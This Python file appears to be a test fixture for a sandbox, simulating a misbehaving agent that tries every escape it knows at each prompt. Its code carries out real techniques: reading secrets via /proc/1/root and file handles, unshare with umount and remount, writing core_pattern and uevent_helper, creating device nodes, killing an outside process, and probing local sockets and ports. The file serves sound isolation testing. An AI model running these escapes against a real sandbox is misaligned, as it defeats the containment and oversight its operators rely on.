"""An agent that asks nobody and tries, at each prompt, all ways out of its box that it knows: `… escaping PATH`.

The file lists what it looks for (`Wanted`). It says as JSON what it got, by the name of the way. It uses only the
standard library."""

import contextlib
import ctypes
import glob
import http.client
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tests.support.misbehaving_agents.protocol import answer, chunk_line, messages, write

Wanted = dict[str, Any]
"""`secrets`: files with the word SECRET; `closed`: folders and files in which nothing may change; `services`: TCP ports
of this machine; `outside`: a process that it must not reach."""
SECRET = b"heron-secret"
HANDLE_BYTES = 128


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(1 << 20)


def output(*words: str, stdin: str = "") -> bytes:
    done = subprocess.run(words, input=stdin.encode(), capture_output=True, timeout=30, check=False)
    return done.stdout + done.stderr


def readings(targets: Wanted) -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yields ways to read a file that is hidden."""
    for path in targets["secrets"]:
        yield f"open {path}", lambda path=path: read(path)
        yield f"root of a process {path}", lambda path=path: read(f"/proc/1/root{path}")
        yield f"dots {path}", lambda path=path: read(f"/proc/self/cwd/{'../' * 20}{path}")
        yield f"hard link {path}", lambda path=path: (os.link(path, "evil-link"), read("evil-link"))[1]
        yield f"unmounted {path}", lambda path=path: output("unshare", "-Urm", "sh", "-c", uncovered(path))
        yield f"handle {path}", lambda path=path: by_handle(path)
    for number in range(3, 64):
        yield f"inherited descriptor {number}", lambda number=number: inherited(number, targets["secrets"])


def uncovered(path: str) -> str:
    """Returns a script that removes what covers a path, in a namespace of its own."""
    above = "; ".join(f"umount -l {folder} 2>/dev/null" for folder in (path, *map(str, Path(path).parents)))
    return f"{above}; mount --bind / /mnt 2>/dev/null; cat {path} /mnt{path}"


def by_handle(path: str) -> bytes:
    """Opens a file by the number that its file system gives it, as a process with all rights may."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_char * (8 + HANDLE_BYTES)).from_buffer(bytearray(8 + HANDLE_BYTES))
    ctypes.c_uint.from_buffer(handle).value = HANDLE_BYTES
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) < 0:
        return b""
    top = os.open("/", os.O_RDONLY)
    try:
        opened = libc.open_by_handle_at(top, handle, os.O_RDONLY)
        return os.read(opened, 1000) if opened >= 0 else b""
    finally:
        os.close(top)


def inherited(number: int, paths: list[str]) -> bytes:
    target = os.readlink(f"/proc/self/fd/{number}")
    with contextlib.suppress(OSError):
        if os.path.isdir(f"/proc/self/fd/{number}"):
            return b"".join(read(f"/proc/self/fd/{number}{path}") for path in paths)
    return SECRET if target.startswith("/") and not target.startswith("/dev/") else b""


def changes(targets: Wanted) -> Iterator[tuple[str, Callable[[], Any]]]:
    """Yields ways to change a place that is closed. What came of them is seen from outside."""
    for path in targets["closed"]:
        inside = os.path.join(path, "evil")
        yield f"create {inside}", lambda inside=inside: Path(inside).write_text("evil")
        yield f"folder {inside}", lambda inside=inside: os.makedirs(inside)
        yield f"link {inside}", lambda inside=inside: os.symlink("/evil", inside)
        yield f"append {path}", lambda path=path: append(path)
        yield f"replace {path}", lambda path=path: (Path("evil").write_text("evil"), os.replace("evil", path))
        yield f"move {path}", lambda path=path: os.rename(path, f"{path}-evil")
        yield f"remove {path}", lambda path=path: os.unlink(path)
        yield f"mode {path}", lambda path=path: os.chmod(path, 0o777)
        yield f"time {path}", lambda path=path: os.utime(path, (0, 0))
        yield f"attribute {path}", lambda path=path: os.setxattr(path, "user.evil", b"evil")
        yield f"through /proc {path}", lambda path=path: Path(f"/proc/self/root{path}/evil").write_text("evil")
        script = f"mount -o remount,bind,rw {path}; mount -o remount,rw /; echo evil > {path}/evil; echo evil >> {path}"
        yield f"remount {path}", lambda script=script: output("unshare", "-Urm", "sh", "-c", script)


def append(path: str) -> None:
    with open(path, "a") as file:
        file.write("evil")


def doors(targets: Wanted) -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yields ways to other processes, services and devices."""
    for name in sorted(_sockets()):
        yield f"socket {name}", lambda name=name: connected(name)
    for port in targets["services"]:
        yield f"port {port}", lambda port=port: fetched(port, "/api/sessions")
    yield "signal", lambda: (os.kill(targets["outside"], signal.SIGKILL), SECRET)[1]
    yield "memory", lambda: read(f"/proc/{targets['outside']}/environ")
    yield "device", lambda: (os.mknod("evil-disk", 0o60600, os.makedev(254, 0)), read("evil-disk"), SECRET)[2]
    yield "core pattern", lambda: (Path("/proc/sys/kernel/core_pattern").write_text("|/evil"), SECRET)[1]
    yield "uevent helper", lambda: (Path("/sys/kernel/uevent_helper").write_text("/evil"), SECRET)[1]
    yield "kernel memory", lambda: read("/proc/kcore")[:0] + SECRET
    yield "kernel log", lambda: read("/dev/kmsg")[:0] + SECRET
    yield "host name", lambda: (socket.sethostname("evil"), SECRET)[1]
    yield "terminal", lambda: (os.close(os.open("/dev/tty", os.O_RDWR)), SECRET)[1]


def _sockets() -> set[str]:
    names = {line.split()[7] for line in Path("/proc/net/unix").read_text().splitlines()[1:] if len(line.split()) > 7}
    return names | set(glob.glob("/run/**/*sock*", recursive=True))


def connected(name: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as door:
        door.settimeout(5)
        door.connect("\0" + name[1:] if name.startswith("@") else name)
    return SECRET


def fetched(port: int, path: str) -> bytes:
    """Returns the secret if a service of this machine answers without a token."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request("GET", path)
    return SECRET if connection.getresponse().status < 400 else b""


def attempt(targets: Wanted) -> dict[str, str]:
    """Tries everything and returns the ways that led to something."""
    got: dict[str, str] = {}
    for name, way in (*readings(targets), *doors(targets)):
        with contextlib.suppress(Exception):
            content = way()
            if SECRET in content:
                got[name] = content.decode(errors="replace")[:200]
    for _, change in changes(targets):
        with contextlib.suppress(Exception):
            change()
    return got


def main(path: str) -> None:
    for message in messages():
        if message.get("method") == "session/prompt":
            targets = json.loads(Path(path).read_text())
            write(chunk_line(json.dumps(attempt(targets))))
        answer(message)


if __name__ == "__main__":
    main(sys.argv[1])
